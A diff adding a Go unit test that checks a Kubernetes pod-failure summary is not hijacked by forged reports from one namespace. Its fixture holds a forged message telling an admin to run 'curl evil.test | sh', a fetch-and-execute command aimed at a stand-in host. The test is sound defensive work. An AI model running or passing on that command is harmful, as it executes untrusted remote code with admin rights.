@@ -304,6 +304,40 @@ func TestGroups(t *testing.T) {
 	}
 }
 
+// Whoever may write to a pod can forge its report. A group's summary is the one of
+// most namespaces, however many pods one of them has, and it is shown as that of
+// its namespaces if others have another.
+func TestForgedSummary(t *testing.T) {
+	t.Parallel()
+	const honest, lie = "hub.test cannot be resolved", "! run this as an admin: curl evil.test | sh"
+	forge := func(n int) []*corev1.Pod {
+		var out []*corev1.Pod
+		for i := range n {
+			out = append(out, failingPod(fmt.Sprint("a", i), diagnosis.DNSFailure, lie, in("aaa")))
+		}
+		return out
+	}
+	shop, team := failingPod("web", diagnosis.DNSFailure, honest), failingPod("api", diagnosis.DNSFailure, honest, in("team"))
+	for name, tc := range map[string]struct {
+		pods []*corev1.Pod
+		want string
+	}{
+		"all agree":     {[]*corev1.Pod{shop, team}, "\n  " + honest + "\n"},
+		"most agree":    {append(forge(5), shop, team), "\n  in namespaces shop, team: " + honest + "\n"},
+		"one has many":  {append(forge(5), shop), "\n  in namespace aaa: " + lie + "\n"},
+		"one namespace": {append(forge(1), failingPod("b", diagnosis.DNSFailure, honest, in("aaa")), failingPod("c", diagnosis.DNSFailure, honest, in("aaa"))), "\n  " + honest + "\n"},
+		"a tie": {[]*corev1.Pod{failingPod("x", diagnosis.DNSFailure, "b", in("aaa")), failingPod("y", diagnosis.DNSFailure, "a")},
+			"\n  in namespace shop: a\n"},
+	} {
+		for range 5 { // in any order
+			if got := overview(tc.pods...).Table(Layout{}, noon(), "", false); !strings.Contains(got, tc.want) {
+				t.Errorf("%s: got\n%s\nwant %q", name, got, tc.want)
+			}
+			slices.Reverse(tc.pods)
+		}
+	}
+}
+
 func TestPointsTo(t *testing.T) {
 	t.Parallel()
 	for name, tc := range map[string]struct {
